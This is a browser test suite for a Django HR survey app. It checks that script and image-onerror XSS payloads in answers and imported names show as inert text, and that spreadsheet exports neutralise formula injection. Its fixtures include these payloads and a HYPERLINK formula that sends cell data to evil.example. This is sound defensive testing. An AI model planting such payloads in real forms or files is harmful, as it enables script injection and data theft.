"""A script typed into an answer, or imported in a person's name, never runs anywhere it is shown.

A respondent types ``<script>`` and ``<img onerror>`` payloads into two answers and submits;
HR then reads the closed campaign's results, written answers, search, proposals, the PDF and
the exports. An HR administrator imports people and units whose names hold the same payloads
and reads the organisation's pages, the import's preview, the dialogue overview and its export,
and the Django admin. On every page: the payloads are shown as text (the tags themselves are
on the screen), no element was made of them, ``window.__pwned`` stays unset and no dialog
opens. The site's Content Security Policy would block an injected inline script anyway; these
checks do not rely on it (a CSP refusal would fail the test too, see conftest).

Files are downloads, never rendered: ``Content-Disposition: attachment`` and ``nosniff``. A
cell of the CSV that would start with ``=``, ``+``, ``-`` or ``@`` is quoted with an
apostrophe, and the workbooks hold such names as text, never as a formula.
"""

import csv
import io
import re

import pytest
from openpyxl import load_workbook
from playwright.sync_api import Error as PlaywrightError
from playwright.sync_api import expect
from pypdf import PdfReader

from conftest import PASSWORD
from dialogues.experiences.domain.answering import find_invitee, submit
from dialogues.experiences.domain.mixing import close_campaign
from dialogues.experiences.models import PendingResponse
from dialogues.experiences.tests.factories import open_test_campaign
from dialogues.organisation.models import OrganisationImport, Person, RoleAssignment, Unit
from dialogues.organisation.roles import Role
from dialogues.organisation.tests.factories import import_file_bytes, small_organisation

from .conftest import (
    BROWSER_DB,
    assert_no_browser_problems,
    check_page,
    click_and_wait,
    log_in,
    visit,
)
from .test_answering import answer_path, question_id, type_answer

pytestmark = [pytest.mark.browser, BROWSER_DB]

SCRIPT = "<script>window.__pwned=1</script>"
IMAGE = '<img src=x onerror="window.__pwned=1;alert(1)">'
HOSTILE = f"Before {SCRIPT} between {IMAGE} after"
PURPOSE = "How have you experienced the purpose of using dialogue as a lever"
SURPRISES = "What insights have surprised you?"
# Unit names a spreadsheet would run as formulas, were they not written as text.
FORMULAS = {
    "department": '=HYPERLINK("https://evil.example/?"&A1,"Department of Tests")',
    "section": "+Section of Cases",
    "sibling": "-Section of Mocks",
    "university": "@Test University",
}
FORMULA_STARTS = ("=", "+", "-", "@")


# --- checks --------------------------------------------------------------------------------------


def watch_dialogs(page) -> list[str]:
    """Every alert/confirm/prompt the page opens (none may), dismissed at once."""
    opened: list[str] = []

    def on_dialog(dialog):
        opened.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", on_dialog)
    return opened


def assert_inert(page) -> None:
    """Nothing of the payloads ran or became an element."""
    assert page.evaluate("() => window.__pwned") is None, f"a payload ran on {page.url}"
    made = page.evaluate(
        """() => document.querySelectorAll('[onerror], img[src="x"]').length
            + [...document.scripts].filter(s => s.textContent.includes('__pwned')).length"""
    )
    assert made == 0, f"a payload became an element on {page.url}"


def assert_shown_as_text(page, scope=None, payloads=(SCRIPT, IMAGE)) -> None:
    """The payloads are on the screen as written (tags and all), and inert."""
    scope = scope or page.locator("main")
    for payload in payloads:
        expect(scope.first).to_contain_text(payload)
    assert_inert(page)


def assert_download(page, url: str, content_type: str) -> bytes:
    """Opening ``url`` in the browser downloads it; the headers say attachment and nosniff."""
    answer = page.request.get(url)
    assert answer.status == 200, f"{url} answered {answer.status}"
    assert answer.headers["content-type"].startswith(content_type)
    assert answer.headers["content-disposition"].startswith("attachment;")
    assert answer.headers["x-content-type-options"] == "nosniff"
    shown = page.url
    with page.expect_download() as download:
        try:
            page.goto(url)
        except PlaywrightError as error:  # a download is no page to navigate to
            assert "Download is starting" in str(error), str(error)
    assert page.url == shown  # nothing was rendered in place of the page
    assert_inert(page)
    with open(download.value.path(), "rb") as file:
        return file.read()


def assert_csv_neutralised(content: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert cells, "the CSV is empty"
    starting = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert not starting, f"cells a spreadsheet would run: {starting}"
    return rows


def assert_workbook_holds_text(content: bytes, names) -> None:
    """Every cell of the workbook that starts like a formula is a string, not a formula."""
    workbook = load_workbook(io.BytesIO(content))
    found = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    assert cell.data_type == "s", f"{sheet.title}!{cell.coordinate} is a formula"
                    found.add(cell.value)
    assert found & set(names), "no formula-like name reached the workbook"


# --- a payload typed into an answer --------------------------------------------------------------


@pytest.fixture
def campaign_with_hostile_answers(new_page, browser_org):
    """One respondent types the payloads in the browser and submits; eleven more answer so."""
    for key, name in FORMULAS.items():
        Unit.objects.filter(pk=getattr(browser_org, key).pk).update(name=name)
    campaign, tokens = open_test_campaign(browser_org, count=12, preset=("wellbeing",))
    purpose, surprises = question_id(campaign, PURPOSE), question_id(campaign, SURPRISES)

    page = new_page()
    dialogs = watch_dialogs(page)
    visit(page, answer_path(tokens[0]))
    for question in (PURPOSE, SURPRISES):
        type_answer(page, page.get_by_label(re.compile("^" + re.escape(question))), HOSTILE)
    assert_inert(page)
    # The draft, opened again: the payload is the textarea's text.
    visit(page, answer_path(tokens[0]))
    expect(page.get_by_label(re.compile("^" + re.escape(PURPOSE)))).to_have_value(HOSTILE)
    assert_inert(page)
    click_and_wait(page, page.get_by_role("button", name="Submit my answers"))
    expect(page.get_by_role("heading", level=1)).to_contain_text("Thank you")
    assert_inert(page)
    assert dialogs == []
    (stored,) = PendingResponse.objects.values_list("answers", flat=True)
    assert stored[purpose]["text"] == HOSTILE and stored[surprises]["text"] == HOSTILE

    for number, token in enumerate(tokens[1:], start=1):
        answers = {purpose: f"{number}: {HOSTILE}", surprises: f"{HOSTILE} ({number})"}
        submit(find_invitee(token), {"wellbeing": answers}, ["wellbeing"])
    close_campaign(campaign)
    campaign.refresh_from_db()
    return campaign, purpose, surprises


def test_a_script_typed_into_an_answer_never_runs_on_the_results(
    new_page, browser_org, campaign_with_hostile_answers
):
    campaign, purpose, surprises = campaign_with_hostile_answers
    page = new_page()
    dialogs = watch_dialogs(page)
    log_in(page, browser_org.hr_admin)

    visit(page, f"/results/{campaign.pk}/")
    assert_inert(page)
    for question in (purpose, surprises):
        visit(page, f"/results/{campaign.pk}/questions/{question}/")
        assert_shown_as_text(page, page.locator(".comment-list"))
    visit(page, f"/results/{campaign.pk}/search/?q=pwned")
    assert_shown_as_text(page)
    visit(page, f"/results/{campaign.pk}/proposals/")
    assert_shown_as_text(page)

    # The files: downloads, never pages; the CSV's formula-like cells quoted, the workbook's text.
    visit(page, f"/results/{campaign.pk}/")
    pdf = assert_download(page, f"/results/{campaign.pk}/report.pdf", "application/pdf")
    text = "".join(each.extract_text() for each in PdfReader(io.BytesIO(pdf)).pages)
    assert "window.__pwned=1" in re.sub(r"\s+", "", text)
    rows = assert_csv_neutralised(
        assert_download(page, f"/results/{campaign.pk}/export.csv", "text/csv")
    )
    cells = {cell for row in rows for cell in row}
    assert {"'" + FORMULAS["department"], "'" + FORMULAS["section"]} <= cells
    workbook = assert_download(
        page,
        f"/results/{campaign.pk}/export.xlsx",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    )
    assert_workbook_holds_text(workbook, FORMULAS.values())
    assert_no_browser_problems(page)
    assert dialogs == []


def test_an_answer_far_over_every_limit_gets_a_readable_page_in_both_languages(
    new_page, browser_org
):
    """A browser without ``maxlength`` (or a script) sends 6 MB: Django refuses the body (over
    DATA_UPLOAD_MAX_MEMORY_SIZE) before the view runs; the page says what happened."""
    _campaign, tokens = open_test_campaign(browser_org, preset=("wellbeing",), language="da")
    page = new_page()
    visit(page, answer_path(tokens[0]))
    field = page.get_by_label(re.compile("^" + re.escape("Hvordan har du oplevet formålet")))
    field.evaluate(
        "(area) => { area.removeAttribute('maxlength'); area.value = 'x'.repeat(6 * 1024 * 1024) }"
    )
    with page.expect_navigation() as navigation:
        page.get_by_role("button", name="Send mine svar").click()
    assert navigation.value.status == 400
    expect(page.get_by_role("heading", level=1)).to_have_text("Det, du sendte, kunne ikke læses")
    expect(page.get_by_role("heading", level=2)).to_have_text("What you sent could not be read")
    check_page(page)
    assert not PendingResponse.objects.exists()


# --- a payload imported in a name ----------------------------------------------------------------


@pytest.fixture
def hr_admin(transactional_db):
    """A local HR administrator (an import leaves such accounts alone), staff for the admin."""
    admin = Person.objects.create_user(
        email="hilde.admin@example.org",
        name="Hilde Admin",
        password=PASSWORD,
        employee_id=None,
        preferred_language="en",
        is_staff=True,
        is_superuser=True,
    )
    RoleAssignment.objects.create(person=admin, role=Role.HR_ADMIN, unit=None)
    return admin


def hostile_file(tmp_path):
    """The small organisation with the payloads in two names and formulas in the units' names."""
    units = {"D": FORMULAS["department"], "S": FORMULAS["section"], "G": f"Group {IMAGE}"}
    rows = []
    for row in small_organisation():
        row = row | {"unit_name": units.get(row["unit_code"], row["unit_name"])}
        if row["employee_id"] == "E3":
            row["name"] = f"Emma {SCRIPT}"
        if row["employee_id"] == "E4":
            row["name"] = f"Gustav {IMAGE}"
        rows.append(row)
    path = tmp_path / "hostile.csv"
    path.write_bytes(import_file_bytes(rows))
    return path


def test_a_script_imported_in_a_name_never_runs_on_any_page_that_shows_it(
    new_page, hr_admin, tmp_path
):
    page = new_page()
    dialogs = watch_dialogs(page)
    log_in(page, hr_admin)
    visit(page, "/organisation/imports/")
    page.get_by_label(re.compile(r"^HR file")).set_input_files(hostile_file(tmp_path))
    click_and_wait(page, page.get_by_role("button", name="Check the file"))
    assert_shown_as_text(page)  # the preview lists the people to add
    click_and_wait(page, page.get_by_role("button", name="Import now"))
    expect(page.get_by_role("status")).to_contain_text("The organisation was imported.")
    assert_shown_as_text(page)

    emma = Person.objects.get(employee_id="E3")
    gustav = Person.objects.get(employee_id="E4")
    assert emma.name == f"Emma {SCRIPT}" and gustav.name == f"Gustav {IMAGE}"
    group = Unit.objects.get(code="G")
    section = Unit.objects.get(code="S")

    visit(page, "/organisation/people/")
    assert_shown_as_text(page)
    page.get_by_role("searchbox").fill("pwned")
    expect(page.locator("main")).to_contain_text(SCRIPT)
    assert_shown_as_text(page)
    visit(page, f"/organisation/people/{emma.pk}/")
    assert_shown_as_text(page, payloads=(SCRIPT,))
    visit(page, f"/organisation/people/{gustav.pk}/")
    assert_shown_as_text(page, payloads=(IMAGE,))
    visit(page, f"/organisation/units/{section.pk}/")
    assert_shown_as_text(page, payloads=(SCRIPT,))
    visit(page, f"/organisation/units/{group.pk}/")
    assert_shown_as_text(page, payloads=(IMAGE,))
    visit(page, "/organisation/")
    assert_shown_as_text(page, payloads=(IMAGE,))
    visit(page, "/rounds/overview/")
    assert_shown_as_text(page, payloads=(IMAGE,))
    overview = assert_download(
        page,
        "/rounds/overview.xlsx",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    )
    assert_workbook_holds_text(overview, FORMULAS.values())

    # The admin lists people and units; answers are not in it at all.
    for path, payloads in (
        ("/admin/organisation/person/", (SCRIPT, IMAGE)),
        ("/admin/organisation/person/?q=pwned", (SCRIPT, IMAGE)),
        ("/admin/organisation/unit/", (IMAGE,)),
    ):
        response = page.goto(path)
        assert response.status == 200, f"{path} answered {response.status}"
        assert_shown_as_text(page, page.locator("#content"), payloads=payloads)
    record = OrganisationImport.objects.get()
    for path in (
        "/admin/organisation/organisationimport/",
        f"/admin/organisation/organisationimport/{record.pk}/change/",
    ):
        assert page.goto(path).status == 200
        assert_inert(page)
    for person in (emma, gustav):
        response = page.goto(f"/admin/organisation/person/{person.pk}/change/")
        assert response.status == 200
        expect(page.locator("input[name=name]")).to_have_value(person.name)
        assert_inert(page)
    response = page.goto(f"/admin/organisation/unit/{group.pk}/change/")
    expect(page.locator("input[name=name]")).to_have_value(group.name)
    assert_inert(page)
    for path in ("/admin/experiences/response/", "/admin/experiences/answer/"):
        assert page.goto(path).status == 404, f"answers must not be in the admin: {path}"
    assert_no_browser_problems(page)
    assert dialogs == []
